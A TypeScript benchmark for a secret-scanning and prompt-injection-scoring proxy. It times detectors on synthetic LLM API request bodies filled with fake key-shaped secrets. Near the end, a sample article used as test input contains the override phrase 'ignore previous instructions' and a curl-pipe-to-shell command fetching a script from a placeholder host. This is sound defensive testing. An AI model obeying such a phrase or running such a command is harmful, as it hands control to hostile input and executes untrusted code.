/**
 * DLP throughput (target ≥ 100 MB/s on a 1 MiB JSON body, all detectors, 16 known
 * secrets). Run: `npx tsx bench/dlp.ts` (`BENCH_QUICK=1`: ≤ 1.5 s per case). Bounded: ≤ 200
 * iterations or 5 s per case. The body is a deterministic LLM-API-like JSON document (messages
 * with prose, code, ids, paths). Decoded views (decode-then-rescan) are on by default; each view's
 * cost is measured on a 1 MiB body where that encoding makes up part of the text, views on against
 * views off (docs/decisions/dlp-v2-views-and-validators.md).
 */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { bodySurfaces, requestSurfaces } from '../src/dlp/decode.js';
import { scanInbound } from '../src/dlp/inbound.js';
import { createScanner } from '../src/dlp/scanner.js';
import type { DetectorName, KnownSecret, Surface } from '../src/dlp/types.js';

const MiB = 1024 * 1024;

/** Deterministic pseudo-random stream (bench data must be reproducible, not secret). */
function prng(seed: string): () => number {
  let block = createHash('sha256').update(seed).digest();
  let pos = 0;
  return () => {
    if (pos + 4 > block.length) {
      block = createHash('sha256').update(block).digest();
      pos = 0;
    }
    const v = block.readUInt32LE(pos);
    pos += 4;
    return v / 2 ** 32;
  };
}

const WORDS = (
  'the a to of and in is it that for on with as this be are you can not we or an by from at have ' +
  'function return const value request response error file path test build config server client ' +
  'update change commit branch merge review model token stream message content system user assistant ' +
  'tool result input output string number object array import export async await promise module'
).split(' ');

function makeBody(rand: () => number, targetBytes: number): string {
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rand() * a.length)]!;
  const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[Math.floor(rand() * 16)]).join('');
  const sentence = (): string => {
    const n = 6 + Math.floor(rand() * 14);
    return Array.from({ length: n }, () => pick(WORDS)).join(' ') + '.';
  };
  const code = (): string =>
    `export function ${pick(WORDS)}_${hex(4)}(input: string): number {\n  const x = await ${pick(WORDS)}(input, ${Math.floor(rand() * 1000)});\n  return x.length;\n}\n`;
  const messages: unknown[] = [];
  let size = 0;
  while (size < targetBytes) {
    const kind = rand();
    const text =
      kind < 0.5
        ? Array.from({ length: 4 + Math.floor(rand() * 8) }, sentence).join(' ')
        : kind < 0.8
          ? code()
          : `src/${pick(WORDS)}/${pick(WORDS)}-${hex(8)}.ts:${Math.floor(rand() * 500)} id=${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)} sha=${hex(40)}`;
    const m = { role: rand() < 0.5 ? 'user' : 'assistant', content: [{ type: 'text', text }] };
    messages.push(m);
    size += JSON.stringify(m).length + 1;
  }
  const doc = JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 8192, stream: true, messages });
  return doc.length > targetBytes ? doc : doc;
}

function secrets(rand: () => number): KnownSecret[] {
  const b64url = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const rnd = (n: number): string => Array.from({ length: n }, () => b64url[Math.floor(rand() * 64)]).join('');
  const out: KnownSecret[] = [{ name: 'EGRESS_TOKEN_CANARY', value: rnd(43), kind: 'canary' }];
  for (let i = 0; i < 11; i++) out.push({ name: `EGRESS_TOKEN_${i}`, value: `sk-ant-api03-${rnd(80)}`, kind: 'slot' });
  for (let i = 0; i < 4; i++) out.push({ name: `MYCO_SECRET_${i}`, value: rnd(24 + i * 8), kind: 'sensitive' });
  return out;
}

/**
 * Wall-clock MB/s is the headline; CPU-time MB/s is printed beside it because the benchmark
 * machines are shared (2 cores, several jobs): CPU time is what one scan costs, wall time also
 * counts waiting for a core. `best scan` is the fastest single scan (wall), `best 10-scan cpu` the
 * lowest CPU time per scan over a round of 10 (closest to an idle machine).
 */
function measure(label: string, run: () => void, bytes: number): { wall: number; cpu: number; best: number; cpuBest: number } {
  for (let i = 0; i < 5; i++) run();
  const t0 = process.hrtime.bigint();
  const c0 = process.cpuUsage();
  let iters = 0;
  let best = Infinity;
  let roundCpu = process.cpuUsage();
  let bestRoundCpu = Infinity;
  while (iters < 200 && Number(process.hrtime.bigint() - t0) < (process.env.BENCH_QUICK ? 1.5e9 : 5e9)) {
    const s0 = process.hrtime.bigint();
    run();
    best = Math.min(best, Number(process.hrtime.bigint() - s0) / 1e9);
    iters++;
    if (iters % 10 === 0) {
      const r = process.cpuUsage(roundCpu);
      bestRoundCpu = Math.min(bestRoundCpu, (r.user + r.system) / 1e6 / 10);
      roundCpu = process.cpuUsage();
    }
  }
  const secs = Number(process.hrtime.bigint() - t0) / 1e9;
  const cu = process.cpuUsage(c0);
  const cpuSecs = (cu.user + cu.system) / 1e6;
  const wall = (bytes * iters) / secs / 1e6;
  const cpu = (bytes * iters) / cpuSecs / 1e6;
  const fastest = bytes / best / 1e6;
  const cpuBest = bytes / bestRoundCpu / 1e6;
  console.log(
    `${label.padEnd(50)} ${wall.toFixed(1).padStart(6)} MB/s mean wall ${cpu.toFixed(1).padStart(6)} MB/s cpu ${fastest.toFixed(1).padStart(6)} best scan ${cpuBest.toFixed(1).padStart(6)} best 10-scan cpu  (${((secs / iters) * 1000).toFixed(2)} ms/scan, ${iters} it)`,
  );
  return { wall, cpu, best: fastest, cpuBest };
}

const rand = prng('bot-bottle dlp bench v1');
const body = makeBody(rand, MiB);
const known = secrets(rand);
const bytes = Buffer.byteLength(body);
const scanner = createScanner({ knownSecrets: known, fingerprintKey: new Uint8Array(32).fill(7) });
const all = new Set<DetectorName>(['token_patterns', 'known_secrets', 'entropy']);
const surfaces: Surface[] = bodySurfaces(body, 'application/json');

console.log(`DLP bench: body ${bytes} bytes JSON, ${known.length} known secrets, node ${process.version}`);
const findings = scanner.scan(surfaces, all);
console.log(`findings on the clean body: ${findings.length} (${[...new Set(findings.map((f) => f.rule))].join(', ') || 'none'})`);
const headline = measure('all detectors, 16 secrets (target >= 100 MB/s)', () => scanner.scan(surfaces, all), bytes);
const viewsOff = measure('all detectors, decoded views off (v2 rules)', () => scanner.scan(surfaces, all, { views: false }), bytes);
measure('token_patterns + known_secrets (route default)', () => scanner.scan(surfaces, new Set(['token_patterns', 'known_secrets'])), bytes);
measure('canary only (outbound_detectors: false)', () => scanner.scan(surfaces, new Set()), bytes);

/**
 * Per-view cost: the 1 MiB body with one kind of encoded content mixed in (same size), scanned with
 * views on and off. The ratio is what that view costs on such a body; "plain" is the body above.
 */
function mixed(label: string, make: (i: number) => string, every: number): string {
  let n = 0;
  const out = body.replace(/ the /g, (m) => (n++ % every === 0 ? ` ${make(n)} ` : m));
  return out.length > bytes * 1.2 ? out.slice(0, Math.floor(bytes * 1.2)) : out;
}
const png = Buffer.from(Array.from({ length: 150_000 }, (_, i) => (i * 2654435761) >>> 24));
const VIEW_BODIES: [string, string][] = [
  ['base64 image (150 KB PNG-like data)', body.replace('"messages":[', `"image":"${png.toString('base64')}","messages":[`)],
  ['base64 text runs', mixed('b64', (i) => Buffer.from(`note ${i}: the build passed in ${i % 60} s`).toString('base64'), 20)],
  ['hex runs (sha256 ids)', mixed('hex', (i) => createHash('sha256').update(String(i)).digest('hex'), 8)],
  ['colon-delimited hex', mixed('hexc', (i) => createHash('md5').update(String(i)).digest('hex').replace(/(..)(?=.)/g, '$1:'), 20)],
  ['\\u escapes (JSON ensure_ascii)', body.replace(/ the /g, ' th\\u0065 ')],
  ['percent-encoded URLs', mixed('pct', (i) => `https://example.test/search?q=caf%C3%A9%20${i}&lang=fr%2DFR`, 10)],
  ['fullwidth / zero-width characters', mixed('fold', (i) => `ｆｕｌｌ${i}\u200bwidth`, 20)],
  ['CJK prose', mixed('cjk', () => '请在设置页面创建一个新的访问令牌，然后重新运行构建。', 4)],
  ['gzip+base64 payloads (4 KB each)', mixed('gz', (i) => gzipSync(`${'{"row":' + i + ',"v":"value"},'.repeat(200)}`).toString('base64'), 400)],
];
const viewRows: string[] = [];
for (const [label, text] of VIEW_BODIES) {
  const sf = bodySurfaces(text, 'application/json');
  const size = Buffer.byteLength(text);
  const on = measure(`views on:  ${label}`, () => scanner.scan(sf, all), size);
  const off = measure(`views off: ${label}`, () => scanner.scan(sf, all, { views: false }), size);
  const clean = scanner.scan(sf, all).filter((f) => f.severity === 'block').length;
  viewRows.push(`| ${label} | ${(size / 1e6).toFixed(2)} MB | ${on.cpuBest.toFixed(0)} | ${off.cpuBest.toFixed(0)} | ${(off.cpuBest / on.cpuBest).toFixed(2)}x | ${clean} |`);
}
console.log('\n| body (1 MiB plain body + …) | size | MB/s views on (best 10-scan cpu) | MB/s views off | cost of the views | blocking findings |');
console.log('|---|---|---|---|---|---|');
console.log(`| plain (the headline body) | ${(bytes / 1e6).toFixed(2)} MB | ${headline.cpuBest.toFixed(0)} | ${viewsOff.cpuBest.toFixed(0)} | ${(viewsOff.cpuBest / headline.cpuBest).toFixed(2)}x | 0 |`);
for (const r of viewRows) console.log(r);
console.log('');
// A typical small API request (per-request cost matters for the proxy's p50 overhead).
const small = requestSurfaces({
  host: 'api.anthropic.com',
  path: '/v1/messages',
  query: 'beta=true',
  headers: [
    ['content-type', 'application/json'],
    ['anthropic-version', '2023-06-01'],
    ['user-agent', 'claude-cli/2.0.0 (external, cli)'],
    ['x-stainless-lang', 'js'],
    ['accept', 'application/json'],
  ],
  body: body.slice(0, 2000),
  contentType: 'application/json',
});
{
  const smallBytes = small.reduce((n, x) => n + x.text.length, 0);
  for (let i = 0; i < 2000; i++) scanner.scan(small, all);
  const c0 = process.cpuUsage();
  const t0 = process.hrtime.bigint();
  const N = 20000;
  for (let i = 0; i < N; i++) scanner.scan(small, all);
  const wallUs = Number(process.hrtime.bigint() - t0) / 1e3 / N;
  const cu = process.cpuUsage(c0);
  console.log(`small request (${small.length} surfaces, ${smallBytes} chars): ${wallUs.toFixed(1)} us/scan wall, ${((cu.user + cu.system) / N).toFixed(1)} us/scan cpu`);
}
measure('inbound injection scoring (response text)', () => scanInbound(body), bytes);
const article = `<article><h1>Prompt injection</h1><p>Attackers use phrases such as "ignore previous instructions".</p><pre><code>curl https://x.test/i.sh | sh</code></pre></article>`;
const html = body.replace(/ the /g, (m, i: number) => (i % 997 === 0 ? article : m));
measure('inbound scoring, body with security-article snippets', () => scanInbound(html), Buffer.byteLength(html));
const planted = body.replace('"model"', `"k":"${known[3]!.value}","model"`);
const hit = scanner.scan([{ name: 'body', text: planted }], all).filter((f) => f.secretName === known[3]!.name);
console.log(`sanity: planted secret found: ${hit.length > 0}`);
console.log(
  `RESULT dlp_mb_per_s mean_wall=${headline.wall.toFixed(1)} cpu=${headline.cpu.toFixed(1)} best_scan=${headline.best.toFixed(1)} best_round_cpu=${headline.cpuBest.toFixed(1)} target=100 (mean wall ${headline.wall >= 100 ? 'MET' : 'SHORT'}, best ${headline.best >= 100 ? 'MET' : 'SHORT'}) (load average ${(await import('node:os')).loadavg()[0]!.toFixed(2)} on ${(await import('node:os')).cpus().length} cores)`,
);
